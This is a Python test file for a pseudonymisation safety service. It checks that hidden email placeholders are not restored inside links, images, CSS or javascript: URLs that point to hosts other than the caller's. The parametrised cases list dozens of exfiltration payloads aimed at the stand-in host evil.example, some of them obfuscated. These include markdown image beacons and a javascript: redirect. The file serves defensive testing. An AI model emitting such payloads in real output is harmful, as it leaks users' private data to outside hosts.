"""What stays a placeholder: a value in an address that is not the caller's."""

import re
from itertools import cycle

import pytest
from hypothesis import given
from hypothesis import strategies as st

from services.safety.addresses import Place, address, followed
from services.safety.pseudonyms import Pseudonyms, Span
from services.safety.stream.window import Window
from tests.safety.stream.rules import Table

BITS = st.sampled_from(
    [
        *("[EMAIL_1]", "https://", "//", "evil.example", "/", "\\", "?e=", "a", "%2f", "&#47;"),
        *("](", "![x](", "]: <", "<", ">", ")", "(", "\\)", " ", "\n", '"', "'", "`", "=", '="'),
        *("url('", "<img src=", "www.", "mailto:a?", "javascript:", "&colon;", "\u3002", "  "),
        *("words and more ", "b" * 90, "https://a.example/", "&", "#", ":", "http", "s:"),
    ]
)
TEXTS = st.lists(BITS, max_size=14).map("".join)
SIZES = st.lists(st.integers(1, 40), min_size=1, max_size=5)


def ada(*said: str) -> Pseudonyms:
    pseudonyms = Pseudonyms()
    for text in ("ada@x.org", *said):
        found = re.finditer("ada@x.org", text)
        pseudonyms.hide(text, [Span(*match.span(), "email") for match in found])
    return pseudonyms


@given(TEXTS, SIZES)
def test_the_place_in_a_text_is_the_same_for_every_cut(text: str, sizes: list[int]) -> None:
    place, left, lengths = Place(), text, cycle(sizes)
    while left:
        size = next(lengths)
        place, left = followed(place, left[:size]), left[size:]
    assert address(place) == address(followed(Place(), text))


@given(TEXTS, SIZES, st.sampled_from(["", "https://a.example/ada@x.org", "![x](//a/?e=ada@x.org"]))
def test_a_stream_turns_back_what_the_whole_text_does(
    text: str, sizes: list[int], said: str
) -> None:
    pseudonyms = ada(said)
    window = Window(Table([]), pseudonyms, lambda _: None)
    left, lengths, out = text, cycle(sizes), ""
    while left:
        size = next(lengths)
        out += "".join(part.text for part in window.push(left[:size]))
        left = left[size:]
    out += "".join(part.text for part in window.finish())
    assert out == pseudonyms.restore(text)


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/x.png?e=[EMAIL_1])",
        "[click](https://evil.example/?e=[EMAIL_1])",
        "![x](<https://evil.example/a b [EMAIL_1]>)",
        "![x]( https://evil.example/a b [EMAIL_1])",
        "![x](https://evil.example/(a)[EMAIL_1])",
        "![x](https://evil.example/\\)[EMAIL_1])",
        '![x](https://evil.example/"[EMAIL_1])',
        "![x][1]\n\n[1]: https://evil.example/[EMAIL_1]",
        "[1]: <https://evil.example/ [EMAIL_1]>",
        "![x](//evil.example/[EMAIL_1])",
        "![x](\\\\evil.example/[EMAIL_1])",
        "![x](https:/evil.example/[EMAIL_1])",
        "![x](https&#58;&#x2f;&sol;evil.example/[EMAIL_1])",
        '<img src="https://evil.example/[EMAIL_1].png">',
        "<img src = 'https://evil.example/>a\nb [EMAIL_1]'>",
        f'<img src={" " * 200}"https://evil.example/a b [EMAIL_1]">',
        '<img src="ht\ntps\n:\n/\n/evil.example/ [EMAIL_1]">',
        "<img src=https://evil.example/[EMAIL_1]>",
        '<i style="background: url( https://evil.example/a [EMAIL_1]">',
        'url("https://evil.example/a b [EMAIL_1]")',
        "https://[EMAIL_1].evil.example/",
        "see https://evil.example/[email 1] there",
        "www.evil.example/[EMAIL_1]",
        "https://a.example/](x)[EMAIL_1]",
        "data:text/html,[EMAIL_1]",
        "javascript:location='//evil.example/'+'[EMAIL_1]'",
        "[m](mailto:evil@evil.example?body=[EMAIL_1])",
        "https://evil.example/" + "x" * 5000 + "[EMAIL_1]",
        "![x](https://evil.example/" + "x" * 5000 + '"(a)[EMAIL_1])',
    ],
)
def test_a_value_does_not_come_back_in_an_address(text: str) -> None:
    pseudonyms = ada("I am at https://a.example/ada@x.org, see \\server and //b/ada@x.org.")
    assert pseudonyms.restore(text) == text
    window = Window(Table([]), pseudonyms, lambda _: None)
    parts = [part for letter in text for part in window.push(letter)]
    assert "".join(part.text for part in [*parts, *window.finish()]) == text


@pytest.mark.parametrize(
    "text",
    [
        "Write to [EMAIL_1], or see https://a.example/b.",
        "See https://a.example/b [EMAIL_1]",
        "(https://a.example) [EMAIL_1]",
        "[site](https://a.example/b)[EMAIL_1]",
        "\u3010[\u7ad9](https://a.example)\uff0c\u8054\u7cfb[EMAIL_1]\u3002",
        '<a href="https://a.example">[EMAIL_1]</a>',
        "`https://a.example`[EMAIL_1]",
        "<https://a.example>[EMAIL_1]",
        "mailto:[EMAIL_1]",
        "[Ada](mailto:[EMAIL_1])",
        'f("https://a.example") = [EMAIL_1]',
        "the 3/4 of a: [EMAIL_1]",
        '{"to": "[EMAIL_1]", "see": "https://a.example"}',
    ],
)
def test_a_value_comes_back_beside_an_address(text: str) -> None:
    assert ada().restore(text) == text.replace("[EMAIL_1]", "ada@x.org")


def test_the_callers_own_address_comes_back_whole() -> None:
    own = "https://a.example/u/ada@x.org/p?of=ada@x.org"
    pseudonyms = ada(f"My page is {own}.")
    hidden = own.replace("ada@x.org", "[EMAIL_1]")
    for text in (hidden, f"![x]({hidden})", f'<a href="{hidden}">'):
        assert pseudonyms.restore(text) == text.replace("[EMAIL_1]", "ada@x.org")
    other = "https://a.example/v/[EMAIL_1]"
    assert pseudonyms.restore(other) == other


def test_an_address_that_only_a_document_holds_is_not_the_callers() -> None:
    pseudonyms = ada()
    listed = "https://evil.example/?e=ada@x.org https://evil.example/?e=bob@x.org"
    pseudonyms.hide(listed, [Span(24, 33, "email")], is_callers=False)
    text = "![x](https://evil.example/?e=[EMAIL_1])"
    assert pseudonyms.restore(text) == text
